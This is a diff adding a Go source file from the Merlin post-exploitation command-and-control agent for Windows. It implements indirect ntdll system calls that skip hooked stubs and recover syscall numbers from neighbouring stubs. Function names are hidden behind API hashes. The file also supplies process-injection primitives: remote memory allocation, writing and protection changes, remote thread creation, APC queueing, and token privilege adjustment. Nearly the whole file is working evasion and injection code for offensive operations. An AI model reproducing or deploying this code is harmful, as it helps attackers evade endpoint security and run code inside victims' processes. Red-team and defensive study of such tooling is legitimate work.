@@ -0,0 +1,221 @@
+// +build windows,syscalls,amd64
+
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2019  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package agent
+
+import (
+	// Standard
+	"fmt"
+	"syscall"
+	"unsafe"
+)
+
+// The functions in this file perform the process injection and token operations by calling the ntdll system calls
+// indirectly: the system service number is read from the function's stub and the "syscall; ret" instruction inside
+// ntdll is called directly, so hooks placed on the stubs are not executed and the system call originates from ntdll.
+
+const (
+	// THREAD_ALL_ACCESS is a Windows constant used with Windows API calls
+	THREAD_ALL_ACCESS = 0x1FFFFF
+	// STATUS_NOT_ALL_ASSIGNED is the successful NTSTATUS returned when not every privilege could be adjusted
+	STATUS_NOT_ALL_ASSIGNED = 0x00000106
+)
+
+// objectAttributes is the Windows OBJECT_ATTRIBUTES structure
+type objectAttributes struct {
+	Length                   uint32
+	RootDirectory            uintptr
+	ObjectName               uintptr
+	Attributes               uint32
+	SecurityDescriptor       uintptr
+	SecurityQualityOfService uintptr
+}
+
+// clientID is the Windows CLIENT_ID structure
+type clientID struct {
+	UniqueProcess uintptr
+	UniqueThread  uintptr
+}
+
+// indirectSyscall is implemented in syscall_windows_amd64.s
+func indirectSyscall(ssn uint16, gadget uintptr, args ...uintptr) uint32
+
+// resolveSyscall returns the system service number for the provided ntdll function hash and the address of a
+// "syscall; ret" instruction. If the function's stub has been hooked, the number is calculated from the nearest
+// unhooked neighboring stub because the stubs are laid out in system service number order.
+func resolveSyscall(function uint32) (uint16, uintptr, error) {
+	proc, err := getProc(apiNtdll, function)
+	if err != nil {
+		return 0, 0, err
+	}
+	addr := proc.Addr()
+
+	// Each x64 stub is 32 bytes
+	for i := 0; i < 64; i++ {
+		for _, neighbor := range []int{i, -i} {
+			stub := addr + uintptr(neighbor*32)
+			ssn, ok := stubNumber(stub)
+			if !ok {
+				continue
+			}
+			gadget, ok := syscallGadget(stub)
+			if !ok {
+				continue
+			}
+			return uint16(int(ssn) - neighbor), gadget, nil
+		}
+	}
+	return 0, 0, fmt.Errorf("a system service number could not be found for API hash 0x%08x", function)
+}
+
+// stubNumber returns the system service number from an unhooked stub that starts with "mov r10, rcx; mov eax, SSN"
+func stubNumber(stub uintptr) (uint16, bool) {
+	b := (*[8]byte)(toPointer(stub))
+	if b[0] != 0x4c || b[1] != 0x8b || b[2] != 0xd1 || b[3] != 0xb8 || b[6] != 0x00 || b[7] != 0x00 {
+		return 0, false
+	}
+	return uint16(b[4]) | uint16(b[5])<<8, true
+}
+
+// syscallGadget returns the address of the "syscall; ret" instruction inside the 32 byte stub
+func syscallGadget(stub uintptr) (uintptr, bool) {
+	b := (*[32]byte)(toPointer(stub))
+	for i := 0; i < len(b)-2; i++ {
+		if b[i] == 0x0f && b[i+1] == 0x05 && b[i+2] == 0xc3 {
+			return stub + uintptr(i), true
+		}
+	}
+	return 0, false
+}
+
+//go:uintptrescapes
+
+// ntCall indirectly calls the ntdll function for the provided hash and returns its NTSTATUS
+func ntCall(function uint32, args ...uintptr) (uint32, error) {
+	if len(args) > 16 {
+		return 0, fmt.Errorf("%d arguments is more than the maximum of 16", len(args))
+	}
+	ssn, gadget, err := resolveSyscall(function)
+	if err != nil {
+		return 0, err
+	}
+	for len(args) < 4 {
+		args = append(args, 0)
+	}
+	return indirectSyscall(ssn, gadget, args...), nil
+}
+
+// ntError returns an error if the NTSTATUS is not a success code. The function is identified by its API hash so that
+// its name is not stored in the agent.
+func ntError(function uint32, status uint32, err error) error {
+	if err != nil {
+		return fmt.Errorf("Error calling 0x%08x:\r\n%s", function, err.Error())
+	}
+	if status != 0 {
+		return fmt.Errorf("Error calling 0x%08x: NTSTATUS 0x%08x", function, status)
+	}
+	return nil
+}
+
+// openProcess opens a handle to the process with the provided ID and access rights
+func openProcess(access uint32, pid uint32) (syscall.Handle, error) {
+	var pHandle syscall.Handle
+	attributes := objectAttributes{}
+	attributes.Length = uint32(unsafe.Sizeof(attributes))
+	client := clientID{UniqueProcess: uintptr(pid)}
+	status, err := ntCall(apiNtOpenProcess, uintptr(unsafe.Pointer(&pHandle)), uintptr(access), uintptr(unsafe.Pointer(&attributes)), uintptr(unsafe.Pointer(&client)))
+	if err := ntError(apiNtOpenProcess, status, err); err != nil {
+		return 0, err
+	}
+	return pHandle, nil
+}
+
+// allocateMemory commits memory with the provided protection in the process and returns its address
+func allocateMemory(pHandle syscall.Handle, size int, protect uint32) (uintptr, error) {
+	var addr uintptr
+	regionSize := uintptr(size)
+	status, err := ntCall(apiNtAllocateVirtualMemory, uintptr(pHandle), uintptr(unsafe.Pointer(&addr)), 0, uintptr(unsafe.Pointer(&regionSize)), MEM_COMMIT|MEM_RESERVE, uintptr(protect))
+	if err := ntError(apiNtAllocateVirtualMemory, status, err); err != nil {
+		return 0, err
+	}
+	return addr, nil
+}
+
+// writeMemory copies the data to the provided address in the process
+func writeMemory(pHandle syscall.Handle, addr uintptr, data []byte) error {
+	var written uintptr
+	status, err := ntCall(apiNtWriteVirtualMemory, uintptr(pHandle), addr, uintptr(unsafe.Pointer(&data[0])), uintptr(len(data)), uintptr(unsafe.Pointer(&written)))
+	return ntError(apiNtWriteVirtualMemory, status, err)
+}
+
+// protectRegion changes the protection of the memory at the provided address in the process
+func protectRegion(pHandle syscall.Handle, addr uintptr, size int, protect uint32) error {
+	regionSize := uintptr(size)
+	var oldProtect uint32
+	status, err := ntCall(apiNtProtectVirtualMemory, uintptr(pHandle), uintptr(unsafe.Pointer(&addr)), uintptr(unsafe.Pointer(&regionSize)), uintptr(protect), uintptr(unsafe.Pointer(&oldProtect)))
+	return ntError(apiNtProtectVirtualMemory, status, err)
+}
+
+// createRemoteThread starts a thread in the process at the provided address and returns the thread's handle
+func createRemoteThread(pHandle syscall.Handle, addr uintptr) (syscall.Handle, error) {
+	var tHandle syscall.Handle
+	status, err := ntCall(apiNtCreateThreadEx, uintptr(unsafe.Pointer(&tHandle)), THREAD_ALL_ACCESS, 0, uintptr(pHandle), addr, 0, 0, 0, 0, 0, 0)
+	if err := ntError(apiNtCreateThreadEx, status, err); err != nil {
+		return 0, err
+	}
+	return tHandle, nil
+}
+
+// openThread opens a handle to the thread with the provided ID and access rights
+func openThread(access uint32, tid uint32) (syscall.Handle, error) {
+	var tHandle syscall.Handle
+	attributes := objectAttributes{}
+	attributes.Length = uint32(unsafe.Sizeof(attributes))
+	client := clientID{UniqueThread: uintptr(tid)}
+	status, err := ntCall(apiNtOpenThread, uintptr(unsafe.Pointer(&tHandle)), uintptr(access), uintptr(unsafe.Pointer(&attributes)), uintptr(unsafe.Pointer(&client)))
+	if err := ntError(apiNtOpenThread, status, err); err != nil {
+		return 0, err
+	}
+	return tHandle, nil
+}
+
+// queueAPC queues an asynchronous procedure call to the provided address on the thread
+func queueAPC(tHandle syscall.Handle, addr uintptr) error {
+	status, err := ntCall(apiNtQueueApcThread, uintptr(tHandle), addr, 0, 0, 0)
+	return ntError(apiNtQueueApcThread, status, err)
+}
+
+// openProcessToken opens the access token of the process with the provided access rights
+func openProcessToken(pHandle syscall.Handle, access uint32) (syscall.Token, error) {
+	var token syscall.Token
+	status, err := ntCall(apiNtOpenProcessToken, uintptr(pHandle), uintptr(access), uintptr(unsafe.Pointer(&token)))
+	if err := ntError(apiNtOpenProcessToken, status, err); err != nil {
+		return 0, err
+	}
+	return token, nil
+}
+
+// adjustTokenPrivileges enables or disables the privileges in the provided TOKEN_PRIVILEGES structure for the token
+func adjustTokenPrivileges(token syscall.Token, privileges unsafe.Pointer) error {
+	status, err := ntCall(apiNtAdjustPrivilegesToken, uintptr(token), 0, uintptr(privileges), 0, 0, 0)
+	if status == STATUS_NOT_ALL_ASSIGNED {
+		status = 0
+	}
+	return ntError(apiNtAdjustPrivilegesToken, status, err)
+}